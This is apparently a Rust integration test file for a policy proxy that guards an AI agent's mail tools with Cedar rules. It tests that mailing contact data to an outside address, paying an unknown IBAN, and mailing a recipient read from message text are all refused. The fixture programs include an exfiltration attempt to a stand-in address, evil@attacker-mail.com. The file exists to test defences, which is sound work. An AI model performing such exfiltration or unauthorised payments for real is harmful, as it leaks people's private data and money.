//! Policies that see the whole call (issue 18): argument rules typed from the backend's
//! input schema, rules over every recipient of a call, and provenance down to the tool.
//! The real binary, the real `mail-server` over stdio, and the example policies of
//! `policies/examples/`.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::support::{example_bin, outcome, run_in};

/// A policy directory in `dir` with the schema, `base.cedar` and `rules` from
/// `policies/examples/`, and a config with the mail server (logging what it sends to
/// `dir/sent.jsonl`) using it.
fn setup(dir: &Path, rules: &[&str]) -> String {
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies/examples");
    let policies = dir.join("policies");
    std::fs::create_dir_all(&policies).expect("mkdir");
    for file in ["schema.cedarschema", "base.cedar"].iter().chain(rules) {
        std::fs::copy(examples.join(file), policies.join(file)).expect("copy policy");
    }
    let path = dir.join("sluice.toml");
    let text = format!(
        "data_dir = {data:?}\n\n[policy]\ndir = {policies:?}\n\n\
         [servers.mail]\ncommand = {mail:?}\nargs = [\"--log\", {log:?}]\ntrust = \"internal\"\n",
        data = dir.join("data").to_str().expect("path"),
        policies = policies.to_str().expect("path"),
        mail = example_bin("mail-server").to_str().expect("path"),
        log = sent_log(dir).to_str().expect("path"),
    );
    std::fs::write(&path, text).expect("write config");
    path.to_str().expect("path").to_owned()
}

fn sent_log(dir: &Path) -> PathBuf {
    dir.join("sent.jsonl")
}

/// What the mail server sent, one JSON object per line (empty if nothing).
fn sent(dir: &Path) -> Vec<Value> {
    std::fs::read_to_string(sent_log(dir))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).expect("log line"))
        .collect()
}

fn exec(dir: &Path, config: &str, session: &str, program: &str) -> Value {
    outcome(run_in(
        dir,
        &["exec", "--config", config, "--session", session],
        program.as_bytes(),
    ))
}

fn refusal(outcome: &Value) -> String {
    assert_eq!(outcome["error"]["kind"], "policy_denied", "{outcome}");
    outcome["error"]["message"]
        .as_str()
        .expect("message")
        .to_owned()
}

#[test]
fn contact_data_in_a_mail_to_a_literal_outside_recipient_is_refused_by_a_whole_call_rule() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = setup(dir.path(), &["whole-call.cedar"]);
    let program = |to: &str| {
        format!(
            r#"const c = (await tools.mail.search_contacts({{name: "Ann"}})).contacts[0];
               return await tools.mail.send_email({{to: ["{to}"], subject: "contact", body: `Ann: ${{c.email}}`}});"#
        )
    };
    let outcome = exec(
        dir.path(),
        &config,
        "whole-call-a",
        &program("evil@attacker-mail.com"),
    );
    let message = refusal(&outcome);
    assert!(
        message.contains("contact-info-in-mail-only-to-internal-recipients"),
        "{message}"
    );
    assert!(!message.contains("ann.lee"), "{message}");
    assert!(sent(dir.path()).is_empty(), "nothing may leave");
    // The same mail to a colleague goes out, with the real address restored.
    let outcome = exec(
        dir.path(),
        &config,
        "whole-call-b",
        &program("boss@example.com"),
    );
    assert_eq!(outcome["error"], Value::Null, "{outcome}");
    let sent = sent(dir.path());
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0]["args"]["body"], "Ann: ann.lee@example.com");
}

#[test]
fn an_argument_rule_refuses_a_payment_to_an_unknown_iban() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = setup(dir.path(), &["payees.cedar"]);
    let pay = |iban: &str| {
        format!(
            r#"return await tools.mail.send_money({{iban: "{iban}", amount: 5000, note: "invoice 7"}});"#
        )
    };
    let outcome = exec(
        dir.path(),
        &config,
        "pay-a",
        &pay("FR7630006000011234567890189"),
    );
    let message = refusal(&outcome);
    assert!(
        message.contains("payments-only-to-known-payees"),
        "{message}"
    );
    assert!(
        !message.contains("FR76"),
        "the argument is not echoed: {message}"
    );
    assert!(sent(dir.path()).is_empty(), "no payment may leave");
    let outcome = exec(dir.path(), &config, "pay-b", &pay("DE89370400440532013000"));
    assert_eq!(outcome["error"], Value::Null, "{outcome}");
    assert_eq!(sent(dir.path()).len(), 1);
    // The audit log names the rule, never the IBAN.
    let audit = std::fs::read_to_string(dir.path().join("data/audit.jsonl")).unwrap_or_default();
    assert!(audit.contains("payments-only-to-known-payees"), "{audit}");
    assert!(
        !audit.contains("FR76") && !audit.contains("DE89"),
        "{audit}"
    );
}

#[test]
fn a_recipient_read_from_message_text_is_refused_and_the_same_address_from_contacts_is_allowed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = setup(dir.path(), &["directory.cedar"]);
    let from_text = r#"
        const mail = (await tools.mail.search_emails({query: "report"})).emails[0];
        const to = mail.body.match(/\[EMAIL_\d+\]/)[0];
        return await tools.mail.send_email({to: [to], subject: "Q4", body: "attached"});"#;
    let outcome = exec(dir.path(), &config, "provenance-text", from_text);
    let message = refusal(&outcome);
    assert!(
        message.contains("recipients-from-the-directory"),
        "{message}"
    );
    assert!(!message.contains("sam.okafor"), "{message}");
    assert!(sent(dir.path()).is_empty());
    let from_contacts = r#"
        const c = (await tools.mail.search_contacts({name: "Sam"})).contacts[0];
        return await tools.mail.send_email({to: [c.email], subject: "Q4", body: "attached"});"#;
    let outcome = exec(dir.path(), &config, "provenance-contacts", from_contacts);
    assert_eq!(outcome["error"], Value::Null, "{outcome}");
    let sent = sent(dir.path());
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0]["args"]["to"][0], "sam.okafor@partner-corp.com");
}

#[test]
fn policy_schema_prints_the_argument_types_of_the_real_tools() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = setup(dir.path(), &["payees.cedar"]);
    let output = run_in(dir.path(), &["policy", "schema", "--config", &config], b"");
    let text = String::from_utf8_lossy(&output.stdout);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(text.contains("action \"call:mail/send_money\""), "{text}");
    assert!(text.contains("\"iban\": String"), "{text}");
    // A misspelt argument is a validation error against the real tool.
    let typo = dir.path().join("policies/payees.cedar");
    let rule = std::fs::read_to_string(&typo).expect("read");
    std::fs::write(
        &typo,
        rule.replace("context.args.iban", "context.args.ibna"),
    )
    .expect("write");
    let output = run_in(dir.path(), &["policy", "schema", "--config", &config], b"");
    assert_eq!(output.status.code(), Some(2));
    let err = String::from_utf8_lossy(&output.stderr);
    assert!(
        err.contains("payments-only-to-known-payees") && err.contains("ibna"),
        "{err}"
    );
}
